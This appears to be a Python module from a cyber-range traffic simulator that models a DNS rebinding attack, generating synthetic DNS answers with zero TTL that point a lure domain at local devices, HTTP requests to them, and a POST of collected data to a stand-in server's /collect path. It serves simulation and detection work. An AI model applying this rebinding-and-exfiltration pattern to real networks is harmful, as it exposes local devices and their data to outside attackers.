"""A page from outside whose name turns into a local address, so that a browser opens local devices to it."""

from collections.abc import Iterator
from dataclasses import dataclass

from wardline_range.attacks.attack import Attack
from wardline_range.clock import Process, ns
from wardline_range.device import Device
from wardline_range.packets.conversation import SERVER
from wardline_range.protocols import dns, http
from wardline_range.protocols.noise import noise

_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0"
_PATHS = ("/", "/status", "/settings")


@dataclass(kw_only=True, eq=False)
class DnsRebinding(Attack):
    """For each local device a fresh name: outside at first, local with TTL 0 a moment later, then HTTP to it."""

    name = "dns-rebinding"
    techniques = ("T1568", "T1046", "T1071.001")
    description = (
        "A page that the device opened resolves its own name anew, to local addresses, and sends what it reads there"
        " to its server."
    )

    domain: str = "rebind.ads.example"
    target: str = ""
    most_devices: int = 4
    tries: int = 6

    def steps(self) -> Iterator[tuple[str, Process]]:
        """Lure, then rebind to one device after the other."""
        yield "lure", self._lure()
        yield "rebind", self._rebind()

    def _lure(self) -> Iterator[float]:
        address = self._outside()
        known = self.device.ask(self.domain, "A", (dns.a(self.domain, address, 60),), self.now, self.label("lure"))
        self._get(self.domain, address, "/", 18_000, "lure", known)
        yield self.chance.between(2, 5)

    def _rebind(self) -> Iterator[float]:
        if self.target:
            targets = [self.victim(Device, self.target)]
        else:
            targets = [one for one in self.neighbours() if 80 in one.open_ports][: self.most_devices]
        for number, target in enumerate(targets):
            name = f"s{number}-{self.chance.below(1 << 24):06x}.{self.domain}"
            known = self._answered(name, self._outside())
            self._get(name, self._outside(), "/frame", 2500, "rebind", known)
            for attempt in range(self.tries):
                yield self.chance.around(1.5, 0.2)
                known = self._answered(name, target.nic.ip)
                self._get(name, target.nic.ip, _PATHS[attempt % len(_PATHS)], 1800, "rebind", known)
            self._report(target)
            yield self.chance.between(3, 9)

    def _answered(self, name: str, address: str) -> int:
        answer = (dns.a(name, address, ttl=0),)
        return self.device.ask(name, "A", answer, self.now, self.label("rebind")) + ns(0.0005)

    def _get(self, host: str, ip: str, path: str, size: int, step: str, at: int) -> None:
        """The browser asks for a page under the name, whoever has the address."""
        talk = self.call(ip, 80, "http", step, at)
        body = b"<html>" + b" " * self.chance.below(size) + b"</html>"
        asked = http.request("GET", host, path, _AGENT, Connection="close")
        talk.ask(asked, http.response(200, "", body), 0.01).close(SERVER)

    def _report(self, target: Device) -> None:
        found = f"from={target.nic.ip}&page=".encode() + noise(self.chance, 1200).hex().encode()
        talk = self.call(self._outside(), 80, "http", "rebind")
        asked = http.request("POST", self.domain, "/collect", _AGENT, found, Connection="close")
        talk.ask(asked, http.response(204, "nginx"), 0.01).close(SERVER)

    def _outside(self) -> str:
        return self.site.internet.address(self.domain)
